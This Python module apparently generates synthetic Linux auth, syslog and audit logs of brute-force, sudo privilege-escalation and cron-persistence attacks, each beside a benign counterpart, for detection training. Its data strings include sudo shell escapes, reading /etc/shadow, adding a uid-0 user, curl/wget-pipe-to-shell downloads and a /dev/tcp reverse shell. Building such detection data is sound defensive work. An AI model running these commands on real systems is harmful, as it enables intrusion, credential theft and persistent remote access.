"""What Linux servers log of intrusions (sshd, sudo, auditd, cron), and of innocent use that looks like them."""

from __future__ import annotations

from datetime import datetime
from zlib import crc32

from forja.corpus.synth.grammar import Draw, base64_digits, between, hexadecimal_digits, pick, sample
from forja.corpus.synth.logs import audit, syslog
from forja.corpus.synth.names import hardware_address
from forja.corpus.synth.site import Clock, Line, Site, Story

GUESSED = [
    "root",
    "admin",
    "test",
    "oracle",
    "postgres",
    "ubuntu",
    "guest",
    "user",
    "git",
    "jenkins",
    "ftpuser",
    "pi",
    "nagios",
    "hadoop",
    "mysql",
    "tomcat",
    "www",
    "deploy",
    "minecraft",
]


def _ssh(at: datetime, host: str, pid: int, message: str) -> Line:
    return at, syslog(at, host, "sshd", pid, message)


def _accepted(site: Site, at: datetime, user: str, source: str, draw: Draw, *, method: str = "") -> list[Line]:
    pid, port = between(900, 32000, draw), between(32768, 61000, draw)
    method = method or ("publickey" if draw() < 0.7 else "password")
    key = f": ED25519 SHA256:{base64_digits(43, draw)}" if method == "publickey" else ""
    opened = (
        f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + crc32(user.encode()) % 300}) by (uid=0)"
    )
    return [
        _ssh(at, site.host, pid, f"Accepted {method} for {user} from {source} port {port} ssh2{key}"),
        _ssh(at, site.host, pid, opened),
    ]


def unix_noise(site: Site, clock: Clock, draw: Draw) -> list[Line]:
    """What happens on any Linux server meanwhile."""
    lines: list[Line] = []
    host = site.host
    for _ in range(between(0, 7, draw)):
        at, kind, pid = clock.after(1, 240), int(draw() * 11), between(400, 32000, draw)
        if kind == 0:
            lines += _accepted(site, at, site.people[2].user, site.address(between(20, 200, draw)), draw)
        elif kind == 1:
            command = pick(
                ("run-parts /etc/cron.hourly", "/usr/lib/sa/sa1 1 1", "/opt/scripts/rotate.sh", "debian-sa1"), draw
            )
            lines.append((at, syslog(at, host, "CRON", pid, f"(root) CMD ({command})")))
        elif kind == 2:
            unit = pick(
                ("apt-daily.service", "logrotate.service", "fstrim.timer", "man-db.service", "certbot.service"), draw
            )
            lines.append(
                (at, syslog(at, host, "systemd", 1, f"{pick(('Started', 'Finished', 'Starting'), draw)} {unit}."))
            )
        elif kind == 3:
            lines.append(
                _ssh(at, host, pid, f"Connection closed by {site.address(between(2, 250, draw))} port {pid + 9000}")
            )
        elif kind == 4:
            lines.append((at, syslog(at, host, "CRON", pid, "pam_unix(cron:session): session closed for user root")))
        elif kind == 5:
            lines.append(
                _ssh(
                    at,
                    host,
                    pid,
                    f"Received disconnect from {site.address(7)} port {pid + 5000}:11: disconnected by user",
                )
            )
        elif kind == 6:
            lines.append(
                (at, syslog(at, host, "systemd-logind", 612, f"New session {pid} of user {site.people[3].user}."))
            )
        elif kind == 7:
            lines.append(
                (
                    at,
                    syslog(at, host, "postfix/smtpd", pid, f"connect from mail.{site.firm.domain}[{site.address(25)}]"),
                )
            )
        elif kind == 8:
            lines.append(
                (at, syslog(at, host, "chronyd", 540, f"Selected source {site.address(3)} (ntp.{site.firm.domain})"))
            )
        elif kind == 9:
            lines.append((at, syslog(at, host, "dbus-daemon", 488, "[system] Reloaded configuration")))
        else:
            lines.append(_ssh(at, host, pid, f"pam_unix(sshd:session): session closed for user {site.service}"))
    return lines


def brute_force(site: Site, draw: Draw, attack: bool) -> Story:
    """Many passwords for few accounts; or somebody who mistypes twice."""
    clock = Clock(site.night if attack and draw() < 0.6 else site.start, draw)
    lines = unix_noise(site, clock, draw)
    host, user = site.host, site.user
    if not attack:
        source = pick((site.home, site.address(between(20, 240, draw))), draw)
        count = between(1, 3, draw)
        for _ in range(count):
            pid = between(900, 32000, draw)
            lines.append(
                _ssh(clock.after(4, 15), host, pid, f"Failed password for {user} from {source} port {pid + 20000} ssh2")
            )
        lines += _accepted(
            site, clock.after(5, 40), user, source, draw, method="password" if draw() < 0.7 else "publickey"
        )
        lines += unix_noise(site, clock, draw)
        return Story(lines, "T1110.001", "/var/log/auth.log", {"source": source, "user": user, "count": str(count)})
    source = site.outside[0]
    count, names = between(5, 14, draw), sample(GUESSED, between(1, 4, draw), draw)
    succeeded = draw() < 0.4
    for _ in range(count):
        name = pick(names, draw)
        pid = between(900, 32000, draw)
        invalid = "" if name == "root" else "invalid user "
        form = draw()
        if form < 0.2 and invalid:
            lines.append(_ssh(clock.after(0.4, 3), host, pid, f"Invalid user {name} from {source} port {pid + 20000}"))
        text = f"Failed password for {invalid}{name} from {source} port {pid + 20000} ssh2"
        lines.append(_ssh(clock.after(0.4, 3), host, pid, text))
        if form > 0.85:
            lines.append(
                _ssh(
                    clock.now,
                    host,
                    pid,
                    f"Connection closed by authenticating user {name} {source} port {pid + 20000} [preauth]",
                )
            )
    if draw() < 0.3:
        lines.append(
            _ssh(
                clock.after(0, 1),
                host,
                1200,
                f"error: maximum authentication attempts exceeded for root from {source} port 40222 ssh2 [preauth]",
            )
        )
    if succeeded:
        lines += _accepted(site, clock.after(1, 4), site.service, source, draw, method="password")
    lines += unix_noise(site, clock, draw)
    facts = {"source": source, "user": site.service if succeeded else names[0], "count": str(count)}
    return Story(
        lines, "T1110.001", "/var/log/auth.log", facts | {"outcome": "broke in" if succeeded else "got nothing"}
    )


def escalation(site: Site, draw: Draw, attack: bool) -> Story:
    """A service account becomes root; or an administrator updates packages. auditd and sudo."""
    clock = Clock(site.start, draw)
    lines = unix_noise(site, clock, draw)
    user, host, serial = (site.service if attack else site.admin), site.host, between(1000, 90000, draw)
    uid = between(100, 999, draw) if attack else between(1000, 1200, draw)
    bad = (
        "/usr/bin/find . -exec /bin/sh ; -quit",
        "/usr/bin/vim -c :!/bin/bash",
        '/usr/bin/awk BEGIN{system("/bin/sh")}',
        "/usr/bin/less /etc/profile",
        "/bin/bash",
        "/usr/bin/python3 -c import pty",
    )
    good = (
        "/usr/bin/apt-get update",
        "/usr/bin/apt-get upgrade -y",
        "/bin/systemctl restart nginx",
        "/usr/bin/journalctl -u nginx",
        "/bin/systemctl status ssh",
        "/usr/bin/tail /var/log/syslog",
    )
    if attack:
        place = pick(("/tmp", "/dev/shm", "/var/tmp"), draw)
        refused = pick(("/bin/cat /etc/shadow", "/bin/su", "/usr/bin/passwd"), draw)
        for _ in range(between(1, 2, draw)):
            lines.append(
                (
                    at := clock.after(2, 20),
                    syslog(
                        at,
                        host,
                        "sudo",
                        None,
                        f"{user} : command not allowed ; TTY=unknown ; PWD={place} ; USER=root ; COMMAND={refused}",
                    ),
                )
            )
    else:
        place = f"/home/{user}"
    for command in sample(bad, between(1, 2, draw), draw) if attack else sample(good, between(2, 4, draw), draw):
        tty = "unknown" if attack else f"pts/{between(0, 5, draw)}"
        lines.append(
            (
                at := clock.after(3, 60),
                syslog(at, host, "sudo", None, f"{user} : TTY={tty} ; PWD={place} ; USER=root ; COMMAND={command}"),
            )
        )
        program = command.split()[0]
        serial += between(1, 40, draw)
        lines.append(
            (
                at,
                audit(
                    at,
                    "SYSCALL",
                    serial,
                    f"arch=c000003e syscall=59 success=yes exit=0 ppid={between(900, 9000, draw)} "
                    f"pid={between(9000, 30000, draw)} auid={4294967295 if attack else uid} uid={uid} euid=0 "
                    f'comm="{program.rsplit("/", 1)[1]}" exe="{program}" key="privileged"',
                ),
            )
        )
    if attack:
        then = pick(("cat /etc/shadow", "chmod u+s /tmp/.x", "useradd -o -u 0 support", "crontab -l", "id"), draw)
        lines.append(
            (
                at := clock.after(3, 30),
                audit(
                    at,
                    "EXECVE",
                    serial + 3,
                    f"argc={len(then.split())} " + " ".join(f'a{n}="{word}"' for n, word in enumerate(then.split())),
                ),
            )
        )
    lines += unix_noise(site, clock, draw)
    return Story(
        lines,
        "T1548.003",
        "/var/log/auth.log and audit.log",
        {"source": place, "user": user, "target": host, "count": str(uid)},
    )


def persistence(site: Site, draw: Draw, attack: bool) -> Story:
    """A scheduled download that runs as root; or the rotation of a backup."""
    clock = Clock(site.night, draw)
    lines = unix_noise(site, clock, draw)
    user, host = (site.service if attack else site.admin), site.host
    lines.append(
        (
            at := clock.after(1, 60),
            syslog(
                at,
                host,
                "crontab",
                between(900, 30000, draw),
                f"({user}) {pick(('REPLACE', 'BEGIN EDIT'), draw)} ({user})",
            ),
        )
    )
    command = (
        pick(
            (
                f"curl -fsSL http://{site.outside[0]}/{hexadecimal_digits(5, draw)}.sh | bash",
                f"/dev/shm/.{hexadecimal_digits(4, draw)} >/dev/null 2>&1",
                f"wget -qO- {site.outside[0]}:8080/u | sh",
                f"bash -i >& /dev/tcp/{site.outside[0]}/4444 0>&1",
            ),
            draw,
        )
        if attack
        else pick(
            (
                "/opt/backup/rotate.sh --keep 30",
                "/usr/local/bin/report --weekly",
                "/usr/bin/rsync -a /srv/data backup:/pool",
                "/opt/certs/renew.sh",
            ),
            draw,
        )
    )
    for _ in range(between(2, 5, draw)):
        lines.append(
            (
                at := clock.after(60, 301) if attack else clock.after(3500, 3700),
                syslog(at, host, "CRON", between(900, 30000, draw), f"({user}) CMD ({command})"),
            )
        )
    if draw() < 0.5:
        lines.append(
            (
                at := clock.after(1, 5),
                syslog(
                    at,
                    host,
                    "kernel",
                    None,
                    f"[UFW AUDIT] IN= OUT=eth0 MAC={hardware_address(draw)} SRC={site.address(4)} "
                    f"DST={site.outside[0] if attack else site.address(9)} PROTO=TCP DPT={80 if attack else 22}",
                ),
            )
        )
    lines += unix_noise(site, clock, draw)
    return Story(
        lines,
        "T1053.003",
        "/var/log/syslog",
        {
            "source": site.outside[0] if attack else site.address(9),
            "user": user,
            "target": host,
            "count": "5",
            "tool": command.split()[0],
        },
    )


ATTACKS = {
    "brute-force": brute_force,
    "privilege-escalation": escalation,
    "cron-persistence": persistence,
}
